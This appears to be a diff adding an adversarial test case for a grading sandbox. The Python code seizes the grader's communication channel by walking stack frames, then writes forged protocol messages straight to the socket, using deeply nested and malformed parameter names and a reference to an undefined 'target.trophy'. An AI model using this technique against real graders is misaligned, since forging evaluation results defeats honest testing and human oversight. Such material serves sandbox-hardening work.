@@ -1,0 +1,46 @@
+# attack: builds a module whose parameters' names nest a thousand modules | class: forging | canary: bytes | dud: plain pytest has no wire
+import sys
+
+import msgspec
+
+import grader.sandbox.protocol as protocol
+
+
+def answer(make):
+    """Whatever is asked after this, answer with what `make` makes of the question."""
+    call = sys._getframe()
+    while call.f_code.co_name != "serve":
+        call = call.f_back
+    channel = call.f_locals["channel"]
+    channel.send(protocol.Loaded(), protocol.Packing(), None)
+    while True:
+        request, unpacking = channel.receive_request()
+        make(channel, request)
+
+import struct
+
+
+def raw(channel, structure, blob=b""):
+    structure = msgspec.msgpack.encode(structure)
+    channel._socket.sendall(struct.pack("<IQ", len(structure), len(blob)) + structure + blob)
+
+
+def extension(code, value):
+    return msgspec.msgpack.Ext(code, msgspec.msgpack.encode(value))
+
+
+blob = struct.pack("<3f", 1, 1, 1)
+names = [".".join("a" * 5000), "", "..", "training", "_parameters.x", "forward", "a" * 9000]
+count = iter(range(10**6))
+
+
+def make(channel, request):
+    if type(request).__name__ == "Build":
+        parameters = {names[0]: extension(1, ["float32", [3], 12])}
+        state = {"parameters": parameters, "buffers": {}, "saved": names, "trainable": names}
+        raw(channel, {"type": "built", "handle": 0, **state, "training": True}, blob)
+    else:
+        raw(channel, {"type": "returned", "value": target.trophy})
+
+
+answer(make)
